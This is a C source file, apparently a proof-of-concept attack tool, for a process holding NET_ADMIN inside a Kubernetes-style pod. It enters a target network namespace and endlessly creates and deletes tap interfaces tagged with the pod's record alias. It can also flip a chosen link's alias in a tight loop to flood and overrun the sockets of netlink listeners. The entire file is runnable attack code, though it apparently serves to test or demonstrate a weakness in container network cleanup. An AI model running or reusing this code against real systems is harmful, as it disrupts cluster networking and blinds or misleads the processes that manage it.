/*
 * Works against DEL as a process with NET_ADMIN in the pod can. Creates taps with the pod's own
 * record and deletes them again. With LINK, also changes that link so often that the notifications
 * overrun the socket of any process that listens for them. Runs until it is killed.
 *
 * Usage: attack NETNS RECORD [LINK]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/if_tun.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <pthread.h>
#include <sched.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

enum { TAPS = 10, CHANGES = 100, MAX_PAUSE = 15000 /* µs */ };

struct change {
  struct nlmsghdr header;
  struct ifinfomsg link;
  struct rtattr attribute;
  char alias[256];
};

static const char *record, *victim;

/* Sets the alias of a link, without asking for an acknowledgement. */
static void set_alias(int netlink, unsigned ifindex, const char *alias) {
  struct change change = {
      .header = {.nlmsg_type = RTM_SETLINK, .nlmsg_flags = NLM_F_REQUEST},
      .link = {.ifi_index = (int)ifindex},
      .attribute = {.rta_type = IFLA_IFALIAS, .rta_len = (unsigned short)RTA_LENGTH(strlen(alias))},
  };
  strncpy(change.alias, alias, sizeof change.alias - 1);
  change.header.nlmsg_len = (unsigned)(NLMSG_LENGTH(sizeof change.link) + RTA_ALIGN(change.attribute.rta_len));
  send(netlink, &change, change.header.nlmsg_len, 0);
}

static int make_tap(int netlink) {
  struct ifreq request = {.ifr_flags = IFF_TAP | IFF_NO_PI};
  memcpy(request.ifr_name, "fake%d", 7);
  int fd = open("/dev/net/tun", O_RDWR);
  if (fd >= 0 && ioctl(fd, TUNSETIFF, &request) == 0) set_alias(netlink, if_nametoindex(request.ifr_name), record);
  return fd;
}

static void *make_and_drop(void *nothing) {
  int netlink = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), taps[TAPS];
  for (;;) {
    for (int i = 0; i < TAPS; i++) taps[i] = make_tap(netlink);
    usleep((unsigned)(rand() % MAX_PAUSE));
    for (int i = 0; i < TAPS; i++) close(taps[i]);
  }
  return nothing;
}

static void *change_a_link(void *nothing) {
  int netlink = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  unsigned ifindex = if_nametoindex(victim);
  for (unsigned i = 0;; i++) {
    set_alias(netlink, ifindex, i % 2 ? "one" : "another");
    if (i % CHANGES == 0) usleep((unsigned)(rand() % MAX_PAUSE));
  }
  return nothing;
}

int main(int argc, char **argv) {
  if (argc < 3 || setns(open(argv[1], O_RDONLY), CLONE_NEWNET) < 0) return 1;
  record = argv[2];
  victim = argc > 3 ? argv[3] : NULL;
  pthread_t thread;
  if (victim != NULL && pthread_create(&thread, NULL, change_a_link, NULL) != 0) return 1;
  make_and_drop(NULL);
}
